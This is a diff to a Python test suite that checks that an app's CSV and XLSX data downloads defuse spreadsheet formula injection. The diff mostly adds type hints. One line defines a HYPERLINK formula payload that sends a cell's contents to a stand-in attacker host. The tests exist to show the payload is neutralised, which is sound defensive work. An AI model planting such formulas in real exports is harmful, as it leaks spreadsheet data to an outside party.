@@ -6,9 +6,11 @@ import io
 import zipfile
 
 import pytest
+from django.test import Client
 from openpyxl import load_workbook
 
 from polyvox.lib.spreadsheets import csv_cell
+from tests.conftest import World
 from tests.results.conftest import Results, add_ballot
 from tests.results.test_downloads import csv_rows, download
 from tests.results.test_pages import publish
@@ -29,14 +31,16 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
         (-0.5, -0.5),  # numbers stay numbers
     ],
 )
-def test_text_that_starts_like_a_formula_is_made_inert(text, written):
+def test_text_that_starts_like_a_formula_is_made_inert(
+    text: str | float, written: str | float
+) -> None:
     assert csv_cell(text) == written
 
 
 @pytest.mark.django_db
 class TestOpenData:
     @pytest.fixture
-    def payload_in_answers(self, results: Results, world):
+    def payload_in_answers(self, results: Results, world: World) -> None:
         publish(results)
         # Ten people share the value, so the small-cell rule lets it through.
         for _ in range(10):
@@ -44,13 +48,17 @@ class TestOpenData:
                 world.own_site, results.agree, results.option["no"], categories={"note": PAYLOAD}
             )
 
-    def test_the_csv_prefixes_formula_text_with_an_apostrophe(self, client, payload_in_answers):
+    def test_the_csv_prefixes_formula_text_with_an_apostrophe(
+        self, client: Client, payload_in_answers: None
+    ) -> None:
         rows, _readme = csv_rows(download(client, "answers", "csv"), "answers.csv")
         notes = {row["note"] for row in rows if row["site"] == "paris"}
         assert "'" + PAYLOAD in notes
         assert PAYLOAD not in notes
 
-    def test_the_xlsx_stores_formula_text_as_text(self, client, payload_in_answers):
+    def test_the_xlsx_stores_formula_text_as_text(
+        self, client: Client, payload_in_answers: None
+    ) -> None:
         content = download(client, "answers", "xlsx").content
         sheet = load_workbook(io.BytesIO(content))["answers"]
         cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == PAYLOAD]
